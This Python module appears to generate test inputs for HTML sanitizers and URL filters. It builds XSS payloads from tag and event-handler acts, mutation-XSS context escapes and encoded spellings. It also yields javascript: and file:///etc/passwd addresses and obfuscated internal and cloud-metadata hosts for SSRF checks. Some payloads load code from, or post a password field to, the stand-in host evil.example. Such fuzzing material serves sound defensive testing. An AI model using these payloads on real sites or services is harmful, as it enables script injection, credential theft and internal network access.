"""Attacks, made by combining how one gets out of a text, what runs then, and how it is spelled.

In: nothing. Out: texts with markup, script addresses, and addresses that lead inside a network.
"""

from __future__ import annotations

import html
from collections.abc import Iterator
from ipaddress import IPv4Address, IPv6Address

# What makes a browser run, load, send or restyle something.
_ACTS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><path/></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg><animate attributeName=href values='javascript:alert(1)'/></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'/></svg>",
    "<math><maction actiontype='statusline#' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<link rel=import href='data:text/html,x'>",
    "<style>@import'//evil.example/x.css';*{display:none}</style>",
    "<p style='background:url(javascript:alert(1));position:fixed'>x</p>",
    "<form action='//evil.example/'><input name=password autofocus onfocus=alert(1)></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<a href='javascript:alert(1)' target=_blank>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)' ping='//evil.example/'>x</a>",
    "<div hx-get='/desk/' hx-trigger=load data-hx-on:load='alert(1)'>x</div>",
    "<div x-data='alert(1)' @click='alert(1)' v-html='x' ng-init='alert(1)'>x</div>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video poster='javascript:alert(1)'><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1) background='javascript:alert(1)'>",
    "<input type=image src=x onerror=alert(1)>",
    "<table background='javascript:alert(1)'><td>x</td></table>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<x-element is=script onclick=alert(1)>x</x-element>",
    "<frameset onload=alert(1)><frame src='javascript:alert(1)'></frameset>",
    "<isindex action='javascript:alert(1)' type=image>",
    "<portal src='javascript:alert(1)'></portal>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><script href='data:text/javascript,alert(1)'/></svg>",
    "<svg><image href='//evil.example/x.svg' onload=alert(1)></svg>",
    "<math href='javascript:alert(1)'>x</math>",
    "<a href='java&#9;script&NewLine;:alert(1)'>x</a>",
    "<img src=x:x onerror=alert(1)//>",
    "<video src=x onloadstart=alert(1)></video>",
    "<div style='width:expression(alert(1));-moz-binding:url(//evil.example/x);background:u\\rl(//evil.example/x)'>x</div>",
    "<style>@import url(//evil.example/x.css);a{background:url(//evil.example/y)}</style>",
    "<link rel=preload as=script href=//evil.example/x.js>",
    "<input autofocus onfocusin=alert(1)>",
    "<dialog open onbeforetoggle=alert(1)>x</dialog>",
    "<form id=__proto__><input name=innerHTML id=parentNode></form>",
    "<form name=getElementById><input name=cookie></form>",
    "<b onclick=alert(1) onmouseover=alert(1) onanimationstart=alert(1) style='animation:x'>x</b>",
    "<div x-init='alert(1)' hx-on::load='alert(1)' hx-vals='js:{x:alert(1)}'>x</div>",
    "<a href='https://a.example/' id=location name=attributes class=evil>x</a>",
)

# How a text leaves the place that it stands in; `%s` is what follows. The later ones make two parsers differ.
_EXITS = (
    "%s",
    '">%s',
    "'>%s",
    "--><!-- -->%s",
    "<!--><!-->%s-->",
    "]]>%s",
    "</title>%s",
    "</textarea>%s",
    "</script>%s",
    "</style>%s",
    "<![CDATA[%s]]>",
    "<noscript><p title='</noscript>%s'></noscript>",
    "<textarea><p title='</textarea>%s'></textarea>",
    "<template>%s</template>",
    "<select><template>%s</template></select>",
    "<svg></p><style><a title='</style>%s'>",
    "<svg><title>%s</title></svg>",
    "<svg><foreignObject>%s</foreignObject></svg>",
    "<svg><desc><![CDATA[</desc></svg>%s]]></desc></svg>",
    "<math><mtext><table><mglyph><style><!--</style><p title='--&gt;%s'>",
    "<math><mtext><table><mglyph><style><math>%s</math></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding='text/html'>%s</annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>%s'>",
    "<table><td>%s<table>",
    "<p><table><caption><b>%s</p>",
    "<xmp><p title='</xmp>%s'></xmp>",
    "<plaintext>%s",
    "<noembed><p title='</noembed>%s'>",
    "<option><p title='</option>%s'>",
    "<a title='%s'>",
    "<b <i %s",
    "<?xml version='1.0'?>%s",
    "<!DOCTYPE x [<!ENTITY e '%s'>]>&e;",
    "\n\n    %s\n\n```\n%s\n```\n",
    "\u202e\u2066%s\u2069",
    "<scr\u200bipt>%s</scr\u200bipt>",
    "{{constructor.constructor('alert(1)')()}}{% raw %}%s{% endraw %}${alert(1)}<%= alert(1) %>",
    "\n---\nlayout: evil\n---\n%s",
    "\x1b]8;;javascript:alert(1)\x07%s\x1b]8;;\x07\x9b31m",
    "[x](<javascript:alert(1)>) ![x](data:image/svg+xml,x) <javascript:alert(1)> [y]: javascript:alert(1)\n%s",
)

# Younger or rarer acts; each stands bare and behind the plainest exits alone.
_MORE_ACTS = (
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><discard onbegin=alert(1)></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>",
    "<svg><animateMotion onend=alert(1) dur=1s path=M0,0 /></svg>",
    "<svg><set href=#x attributeName=href to=javascript:alert(1) /><a id=x><text y=9>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='&lt;script>alert(1)&lt;/script>'></iframe></foreignObject></svg>",
    "<svg><style>@import '//evil.example/x.css';</style></svg>",
    "<svg><image xlink:href=//evil.example/x.png></svg>",
    "<svg><feImage href=//evil.example/x.png /></svg>",
    "<math><mi xlink:href='data:text/html,<script>alert(1)</script>'>x</mi></math>",
    "<div popover id=x onbeforetoggle=alert(1)>y</div><button popovertarget=x>x</button>",
    "<button commandfor=x command=show-modal>x</button><dialog id=x oncommand=alert(1)></dialog>",
    "<b contenteditable autofocus onfocus=alert(1) oncontentvisibilityautostatechange=alert(1)>x</b>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationend=alert(1) onwebkitanimationstart=alert(1)>x</b>",
    "<script type=importmap>{}</script>",
    "<script type=speculationrules>{}</script>",
    "<script type=module>import '//evil.example/x.js'</script>",
    "<link rel=modulepreload href=//evil.example/x.js>",
    "<link rel=manifest href=//evil.example/x.json>",
    "<link rel=dns-prefetch href=//evil.example/><link rel=preconnect href=//evil.example/>",
    "<link rel=preload as=image imagesrcset='//evil.example/x 1x'>",
    "<meta http-equiv=refresh content='0;//evil.example/'>",
    "<meta http-equiv=Set-Cookie content='a=b'>",
    "<meta name=referrer content=unsafe-url>",
    "<fencedframe src=//evil.example/></fencedframe>",
    "<object type=text/html data=//evil.example/></object>",
    "<object><param name=src value=javascript:alert(1)></object>",
    "<applet code=x.class archive=//evil.example/x.jar></applet>",
    "<video><track default src=//evil.example/x.vtt onload=alert(1)></video>",
    "<video controls poster=//evil.example/x.png></video>",
    "<audio autoplay src=//evil.example/x.mp3></audio>",
    "<picture><source srcset='//evil.example/x 1x'><img src=x onload=alert(1)></picture>",
    "<img usemap=#m src=x><map name=m><area shape=default href=javascript:alert(1)></map>",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1) longdesc=javascript:alert(1)>",
    "<blockquote cite=javascript:alert(1)>x</blockquote><q cite='data:text/html,x'>x</q><del cite=javascript:alert(1)>x</del>",
    "<a href=//evil.example/ ping=//evil.example/ download attributionsrc=//evil.example/>x</a>",
    "<a href='https://a.example/' target=_top rel=opener>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a><a href=' javascript:alert(1)'>x</a>",
    "<a href='javascript&#58;alert(1)'>x</a><a href='javascript&#x3A;alert(1)'>x</a><a href='&#106avascript:alert(1)'>x</a>",
    "<a href='jav\nascript:alert(1)'>x</a><a href='jav\rascript:alert(1)'>x</a><a href='\x0bjavascript:alert(1)'>x</a>",
    "<form><button formaction=javascript:alert(1)>x<input form=x formaction=//evil.example/></form>",
    "<form action=javascript:alert(1)><input type=submit></form><select onchange=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)>x</textarea><keygen autofocus onfocus=alert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x src=//evil.example/x.js></script/x>",
    "<script\x0c>alert(1)</script\t\n bar>",
    "<img/src=x/onerror=alert(1)/x>",
    "<img src='x' \"onerror=alert(1)//\" onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<svg/onload=alert`1`//",
    "<iframe src=x name=location sandbox=allow-scripts></iframe>",
    "<iframe src='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></iframe>",
    "<iframe allow='camera *' csp='' src=//evil.example/></iframe>",
    "<div draggable=true ondragstart=alert(1) onpaste=alert(1) oncut=alert(1)>x</div>",
    "<div slot=x part=x exportparts=x is=x-y inert nonce=x accesskey=x tabindex=1 onkeydown=alert(1)>x</div>",
    "<template><form><template shadowrootmode=closed><script>alert(1)</script></template></form></template>",
)
# Ways in which a parser changes its mind once it reads again what it wrote; each is tried with a few acts.
_MORE_EXITS = (
    "<form><math><mtext></form><form><mglyph><style></math>%s",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style>%s'></style></h1>",
    '<svg><a><foreignobject><a><table><a></table><style><!--</style></svg><a id="-->%s">',
    "<math><annotation-xml encoding=text/html><style><!--</style>%s--></annotation-xml></math>",
    '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><!--&gt;%s">',
    "<svg><iframe><a title='</iframe>%s'></iframe></svg>",
    "<iframe><p title='</iframe>%s'></iframe>",
    "<noframes><p title='</noframes>%s'></noframes>",
    "<table><svg><![CDATA[><tr><td>%s]]></svg></table>",
    "<select><iframe></select>%s</iframe>",
    "<select><style></select>%s</style>",
    "<noscript><style></noscript>%s",
    "<svg></br>%s",
    "<math></p>%s",
    "<svg><desc><style><!--</style><a title='-->%s'>",
    "<!--[if IE]>%s<![endif]-->",
    "<![if !IE]>%s<![endif]>",
    "<!--x--!>%s-->",
    "<!-->%s-->",
    "<!--->%s-->",
    "<?php %s ?>",
    "<? x='?>%s'",
    "<% x='%>%s'",
    "</ x='>%s'",
    "<a <b title='%s'",
    "<a/title='>'/>%s",
    "<a title=\"x' title='>%s\">",
    "<ruby><rt><rtc><table>%s</rtc></ruby>",
    "<dl><dt><p><svg><p>%s",
    "<a><a><table><a>%s</table></a>",
    "<body><frameset>%s</frameset></body>",
    "<template><svg><template>%s</template></svg></template>",
    "<button><p><button>%s</button></p></button>",
    "%s" + "</div>" * 30 + "<div>" * 120 + "%s",
)


def _spelled(text: str) -> Iterator[str]:
    """The same to a browser, or to a lenient one, in other signs."""
    yield text
    yield text.upper()
    yield html.escape(text)
    yield html.escape(html.escape(text))
    yield "".join(f"&#{ord(char)}" if char in "<>:" else char for char in text)
    yield text.replace(" ", "/").replace("=", "\x0c=\t")
    yield text.replace("script", "scr\x00ipt").replace("on", "\x00on")
    yield text.replace("javascript:", "&#1;java&Tab;script&colon;")
    yield text.replace("<", "\uff1c").replace(">", "\uff1e") + text.rstrip(">")


def markup() -> Iterator[str]:
    """Every act behind every exit, and the first exits in every spelling; the rarer ones behind some."""
    for act in _ACTS:
        for exit_ in _EXITS:
            yield exit_.replace("%s", act)
        for exit_ in _EXITS[:3]:
            yield from _spelled(exit_.replace("%s", act))
    for act in _MORE_ACTS:
        yield from (exit_.replace("%s", act) for exit_ in _EXITS[:3])
    for act in _ACTS[:24:4]:
        yield from (exit_.replace("%s", act) for exit_ in _MORE_EXITS)


def some_markup(number: int) -> list[str]:
    """`number` of them, spread over all."""
    every = list(markup())
    return every[:: max(1, len(every) // number)][:number]


def script_addresses() -> Iterator[str]:
    """Addresses that run or hold what they show, in the spellings that browsers forgive."""
    for address in ("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)"):
        scheme, _, rest = address.partition(":")
        yield address
        yield f"{scheme.upper()}:{rest}"
        yield f" \t{scheme[:4]}\n{scheme[4:]}\t:{rest}"
        yield f"\x01\x1f{address}"
        yield f"{scheme}&colon;{rest}"
        yield f"{scheme}://a.example/%0a{rest}"
        yield f"view-source:{address}"
    yield from ("file:///etc/passwd", "blob:https://a.example/1", "filesystem:https://a.example/x")
    yield from (
        "mhtml:https://a.example/",
        "about:blank",
        "intent://x#Intent;end",
        "feed:javascript:alert(1)",
    )
    yield from ("https://user:secret@evil.example/", 'https://a.example/"onmouseover="alert(1)')


_INSIDE = (
    "0.0.0.0", "0.1.2.3", "10.0.0.1", "100.64.0.1", "100.100.100.200", "127.0.0.1", "127.255.255.254",
    "169.254.169.254", "169.254.170.2", "172.16.0.1", "192.0.0.192", "192.168.0.1", "198.18.0.1", "224.0.0.1",
    "240.0.0.1", "255.255.255.255",
)  # fmt: skip
_INSIDE_6 = (
    "::", "::1", "fe80::1", "fec0::1", "fc00::1", "fd00:ec2::254", "fd20:ce::254", "ff02::1", "100::1",
    "2001::1", "2001:db8::1", "5f00::1", "64:ff9b:1::a00:1",
)  # fmt: skip
_NAMES = ("localhost", "LOCALHOST", "localhost.", "a.localhost", "a.b.localhost.", "lOcAlHoSt")


def inward_hosts() -> Iterator[str]:
    """Hosts that are no public ones, in every form that some parser takes for an address."""
    for text in _INSIDE:
        yield from _four(IPv4Address(text))
        for address in _embedded(IPv4Address(text)):
            yield f"[{address}]"
            yield f"[{address.exploded.upper()}]"
    for text in _INSIDE_6:
        address = IPv6Address(text)
        yield f"[{address}]"
        yield f"[{address.exploded}]"
        yield f"[{address}%25eth0]"
    yield from _NAMES
    yield "ⓛⓞⓒⓐⓛⓗⓞⓢⓣ"
    yield "local\u00adhost"


def inward_addresses() -> Iterator[str]:
    """What a name may resolve to that leads inside."""
    for text in _INSIDE:
        yield text
        yield from (str(address) for address in _embedded(IPv4Address(text)))
    yield from _INSIDE_6


def _four(address: IPv4Address) -> Iterator[str]:
    """An IPv4 address as inet_aton, browsers and IDNA read it."""
    number, text = int(address), str(address)
    a, b, c, d = address.packed
    yield from (text, f"{text}.", str(number), hex(number), hex(number).upper(), f"0{number:o}")
    yield from (f"{a}.{number & 0xFFFFFF}", f"{a}.{b}.{number & 0xFFFF}", f"0x{a:x}.{b}.{c}.{d}")
    yield ".".join(f"0{part:o}" for part in (a, b, c, d))
    yield ".".join(f"0x{part:02x}" for part in (a, b, c, d))
    yield ".".join(f"{part:010o}" for part in (a, b, c, d))
    yield f"0x{a:x}.{b}.{c}.0x{d:x}"
    yield f"{a}.{b}.{c}.{d:04o}" if d else f"{a}.{b}.{c}.0x"
    yield text.replace(".", "%2e")
    yield text.replace(".", "\u3002")
    yield text.replace(".", "\u200b.")
    yield text.replace(".", "\uff0e")
    yield "".join(chr(0xFF10 + int(char)) if char.isdigit() else char for char in text)
    yield "".join("⓪①②③④⑤⑥⑦⑧⑨"[int(char)] if char.isdigit() else char for char in text)
    yield "".join(chr(0x1D7CE + int(char)) if char.isdigit() else char for char in text)
    yield "".join("⁰¹²³⁴⁵⁶⁷⁸⁹"[int(char)] if char.isdigit() else char for char in text)
    yield "".join(f"%{ord(char):02x}" for char in text)


def _embedded(address: IPv4Address) -> Iterator[IPv6Address]:
    """The IPv6 addresses that lead to an IPv4 one: mapped, compatible, NAT64, 6to4, Teredo, ISATAP."""
    number = int(address)
    yield IPv6Address(0xFFFF << 32 | number)
    yield IPv6Address(0xFFFF << 48 | number)  # translated, RFC 2765
    yield IPv6Address(number or 2)
    yield IPv6Address((0x64FF9B << 96) | number)
    yield IPv6Address((0x2002 << 112) | number << 80)
    yield IPv6Address((0x20010000 << 96) | (number ^ 0xFFFFFFFF))
    yield IPv6Address((0x20010000 << 96) | number << 64)  # as a Teredo server
    yield IPv6Address((0x2A00145040070000 << 64) | (0x5EFE << 32) | number)
    yield IPv6Address((0x2A00145040070000 << 64) | (0x02005EFE << 32) | number)
